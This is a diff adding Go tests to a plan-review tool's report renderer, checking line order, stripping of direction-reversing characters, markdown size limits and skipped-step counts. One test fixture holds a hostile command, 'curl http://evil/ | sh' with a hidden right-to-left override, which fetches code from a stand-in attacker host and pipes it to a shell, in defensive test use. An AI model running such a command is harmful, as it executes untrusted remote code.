@@ -17,6 +17,7 @@ import (
 	"github.com/gatebook/gatebook/engine/report/internal/example"
 	"github.com/gatebook/gatebook/engine/report/layout"
 	"github.com/gatebook/gatebook/engine/review"
+	"github.com/gatebook/gatebook/engine/value"
 	"github.com/gatebook/gatebook/plugins/sdk"
 )
 
@@ -122,5 +123,133 @@ func TestMarkdownOfALongPlanFits(t *testing.T) {
 	}
 	if fences := strings.Count(text, "```"); fences%2 != 0 {
 		t.Errorf("%d fences", fences)
+	}
+}
+
+// A script reads as it runs: a line that follows a comment is no part of it, and what turns
+// the direction of writing is seen, in whatever form the plan is.
+func TestAScriptReadsAsItRuns(t *testing.T) {
+	t.Parallel()
+	p := example.Plan(t)
+	script := value.Object(value.Member{Name: "script", Value: value.String("rm -rf build # comment\n\ncurl http://evil/\u202e | sh # " + strings.Repeat("long ", 20) + "\n")})
+	p.Steps[1].Params, p.Steps[1].Rollback.Use.Params = script, script
+	for name, write := range map[string]func(b *bytes.Buffer) error{
+		"text": func(b *bytes.Buffer) error { return dossier.Text(b, p, review.Of(p, nil), layout.Style{}) },
+		"folded": func(b *bytes.Buffer) error {
+			return dossier.Text(b, p, review.Of(p, nil), layout.Style{Columns: 80})
+		},
+		"wide": func(b *bytes.Buffer) error { return dossier.Text(b, p, review.Of(p, nil), layout.Style{Wide: true}) },
+		"markdown": func(b *bytes.Buffer) error {
+			return dossier.Markdown(b, p, review.Of(p, nil), dossier.MarkdownSize)
+		},
+		"html": func(b *bytes.Buffer) error { return dossier.HTML(b, p, review.Of(p, nil)) },
+	} {
+		var b bytes.Buffer
+		if err := write(&b); err != nil {
+			t.Fatal(err)
+		}
+		if strings.Contains(b.String(), "\u202e") {
+			t.Errorf("%s turns the direction of writing", name)
+		}
+		found, before := 0, ""
+		for line := range strings.Lines(b.String()) {
+			line = strings.TrimPrefix(strings.Trim(line, " │└├─\n"), "<pre>")
+			if strings.HasPrefix(line, `curl http://evil/\u202e | sh # long`) {
+				found++
+				if before != "" {
+					t.Errorf("%s: %q comes before %q", name, before, line)
+				}
+			}
+			if strings.HasPrefix(line, "rm -rf build") && line != "rm -rf build # comment" {
+				t.Errorf("%s: %q", name, line)
+			}
+			before = line
+		}
+		if found != 2 {
+			t.Errorf("%s has the second command %d times as a line of its own:\n%s", name, found, b.String())
+		}
+	}
+}
+
+// A comment holds only so much of anything that a plan may have many of, and has room for
+// steps all the same.
+func TestMarkdownFitsWhateverIsMuch(t *testing.T) {
+	t.Parallel()
+	long := strings.Repeat("@long ", 30)
+	for name, much := range map[string]func(p *plan.Plan, r *review.Review){
+		"nothing": func(*plan.Plan, *review.Review) {},
+		"inputs": func(p *plan.Plan, _ *review.Review) {
+			var inputs []value.Member
+			for i := range 900 {
+				inputs = append(inputs, value.Member{Name: fmt.Sprint("i", i), Value: value.String(long)})
+			}
+			p.Inputs = value.Object(inputs...)
+		},
+		"connections": func(p *plan.Plan, _ *review.Review) {
+			for range 900 {
+				p.Connections = append(p.Connections, &plan.Connection{Name: long, Source: long})
+			}
+		},
+		"the rest": func(p *plan.Plan, r *review.Review) {
+			for i := range 900 {
+				p.Outputs = append(p.Outputs, plan.Binding{Name: fmt.Sprint("o", i), Value: value.String(long)})
+				r.Problems = append(r.Problems, review.Problem{Kind: review.Blocked, Step: fmt.Sprint("s", i), Text: long})
+				r.Chains = append(r.Chains, review.Chain{Step: fmt.Sprint("s", i), Policy: plan.Rollback, Undo: []string{fmt.Sprint("s", i)}})
+				r.Radius = append(r.Radius, review.Objects{Kind: fmt.Sprint("k", i), Op: "update", Targets: []string{long}})
+				r.Time.Path = append(r.Time.Path, review.Lasting{Step: fmt.Sprint("s", i), Takes: 1})
+			}
+			p.Record = p.Outputs
+		},
+		"titles": func(p *plan.Plan, _ *review.Review) {
+			p.Runbook.Title = strings.Repeat(long, 900)
+			p.Steps[0].Title = p.Runbook.Title
+		},
+	} {
+		p := example.Plan(t)
+		r := review.Of(p, nil)
+		much(p, r)
+		var b bytes.Buffer
+		if err := dossier.Markdown(&b, p, r, dossier.MarkdownSize); err != nil {
+			t.Fatal(err)
+		}
+		if b.Len() > dossier.MarkdownSize {
+			t.Errorf("%s: %d bytes of at most %d", name, b.Len(), dossier.MarkdownSize)
+		}
+		if !strings.Contains(b.String(), "<b>wipe</b>") || !strings.Contains(b.String(), "#### finally, however it went\n") {
+			t.Errorf("%s leaves no room for steps", name)
+		}
+		if open, closed := strings.Count(b.String(), "<details>"), strings.Count(b.String(), "</details>"); open != closed {
+			t.Errorf("%s: %d parts are open, %d closed", name, open, closed)
+		}
+	}
+}
+
+// What is known to be skipped is counted as that alone, and is no point of no return.
+func TestAStepThatIsSkippedDoesNothing(t *testing.T) {
+	t.Parallel()
+	p := example.Plan(t)
+	for _, i := range []int{2, 3} { // asks, and destroys
+		p.Steps[i].When = &plan.Condition{Expr: "inputs.wipe", State: plan.State{Truth: "false"}}
+	}
+	p, err := plan.New(*p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	if err := dossier.Text(&b, p, review.Of(p, nil), layout.Style{}); err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"5 steps: 1 read, 2 change, 2 skipped · ", "\nwipe  exec  destroy, skipped  web.yaml:50:5\n"} {
+		if !strings.Contains(b.String(), want) {
+			t.Errorf("no %q", want)
+		}
+	}
+	for _, wrong := range []string{"question", "point of no return"} {
+		if strings.Contains(b.String(), wrong) {
+			t.Errorf("%q", wrong)
+		}
+	}
+	if t.Failed() {
+		t.Log(b.String())
 	}
 }
